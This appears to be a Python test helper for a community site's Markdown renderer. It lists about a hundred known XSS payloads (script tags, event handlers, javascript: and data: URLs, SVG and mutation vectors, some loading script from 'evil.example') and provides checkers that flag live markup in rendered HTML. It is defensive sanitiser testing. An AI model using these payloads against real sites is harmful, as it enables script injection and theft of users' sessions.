"""A standard list of XSS payloads (OWASP's filter-evasion cheat sheet, PortSwigger's list, known mXSS
vectors) as Markdown posts would carry them, and a checker that proves rendered HTML inert.

Payloads call `window.__xss()` rather than only `alert`, so a browser test can tell that nothing
ran even when a dialog would be swallowed; several also try to plant an element with an `xss`
id or class, which must never exist in the page.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

from apps.community.markup import ALLOWED_CLASSES
from apps.core.markdown import ALLOWED_TAGS

RUN = "window.__xss&&__xss(1);alert(1)"

XSS_PAYLOADS: list[str] = [
    # script tags and their evasions
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><script id=xss-1>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img id=xss-2 src=x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<details/open/ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div onpointerover={RUN} class=xss>hover</div>",
    f"<a href=x onmouseover={RUN}>x</a>",
    f'<a href="https://example.org" target="_blank" onclick="{RUN}">x</a>',
    '<img src="x:gif" onerror="window[\'al\\u0065rt\'](1)">',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    # javascript:, vbscript: and data: URLs, in HTML and in Markdown links, images and references
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javas\ncript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][1]\n\n[1]: data:image/svg+xml,<svg onload=alert(1)>",
    '![x](x" onerror="alert(1))',
    '[x](https://example.org" onclick="alert(1))',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<iframe src='javascript:alert(1)'></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "<iframe src=https://evil.example></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<LINK REL=stylesheet HREF=javascript:alert(1)>",
    '<TABLE BACKGROUND="javascript:alert(1)"><tr><td>x</td></tr></TABLE>',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKScvPg==#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # style injection
    "<style>body{background:red}</style>",
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
    # malformed markup and mutation XSS (parser round-trips)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<img src=`x`onerror=alert(1)>",
    # inside Markdown constructs
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "| <script>alert(1)</script> | x |\n|---|---|\n| [x](javascript:alert(1)) | y |",
    "> <img src=x onerror=alert(1)>",
    "- [x](javascript:alert(1))\n- <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    # mentions and asset references around markup
    "@<script>alert(1)</script>",
    "#<img src=x onerror=alert(1)>",
    '@alice"><img src=x onerror=alert(1)>',
    '#card-transactions"><svg onload=alert(1)>',
    '<a href="/community/" class="mention" onmouseover="alert(1)">spoof</a>',
    "[@olivia](javascript:alert(1))",
]

SAFE_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data", "srcdoc"}
# Elements no page of ours has in its markup: their presence means a post brought them.
NEVER_IN_PAGES = {"iframe", "object", "embed", "svg", "math", "style", "base", "frame", "applet"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _unsafe_url(value: str | None) -> bool:
    """A URL whose scheme, as a browser reads it (tabs, newlines and controls dropped), is not safe.

    Without a scheme a URL is relative to the page: "jav%09ascript:x" is a path, not a scheme."""
    target = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
    scheme = re.match(r"^([a-z][a-z0-9+.\-]*):", target)
    return scheme is not None and f"{scheme.group(1)}:" not in SAFE_SCHEMES


def unsafe_markup(html: str, *, allowed_tags: set[str] | None = None) -> list[str]:
    """Every live construct in `html` that could run script or restyle the page: tags off the
    allow-list, event handlers, style attributes (but table alignment), unsafe URL schemes,
    classes other than the mention/reference ones. Escaped text is not markup."""
    allowed_tags = allowed_tags if allowed_tags is not None else ALLOWED_TAGS
    allowed_classes = {name for names in ALLOWED_CLASSES.values() for name in names}
    collector = _Collector()
    collector.feed(html)
    collector.close()
    problems = []
    for tag, attrs in collector.elements:
        if tag not in allowed_tags:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"{tag}[{name}]")
            elif name == "style" and not (
                tag in {"td", "th"} and re.fullmatch(r"text-align:\s*\w+;?", value or "")
            ):
                problems.append(f"{tag}[style={value}]")
            elif name in URL_ATTRIBUTES and _unsafe_url(value):
                problems.append(f"{tag}[{name}={value}]")
            elif name == "class":
                classes = set((value or "").split())
                if tag == "code":
                    classes = {c for c in classes if not c.startswith("language-")}
                if classes - allowed_classes:
                    problems.append(f"{tag}[class={value}]")
            elif name == "id":
                problems.append(f"{tag}[id={value}]")
    return problems


def unsafe_page(html: str) -> list[str]:
    """Live constructs in a whole page that no post may have brought: inline scripts or handlers,
    script URLs, elements no page of ours uses. Our own scripts load from /static/."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    problems = []
    for tag, attrs in collector.elements:
        values = dict(attrs)
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            problems.append(f"<script {values}>")
        elif tag in NEVER_IN_PAGES:
            problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"{tag}[{name}]")
            elif (name in URL_ATTRIBUTES and _unsafe_url(value)) or (
                name in {"id", "class"} and "xss" in (value or "").lower()
            ):
                problems.append(f"{tag}[{name}={value}]")
    return problems
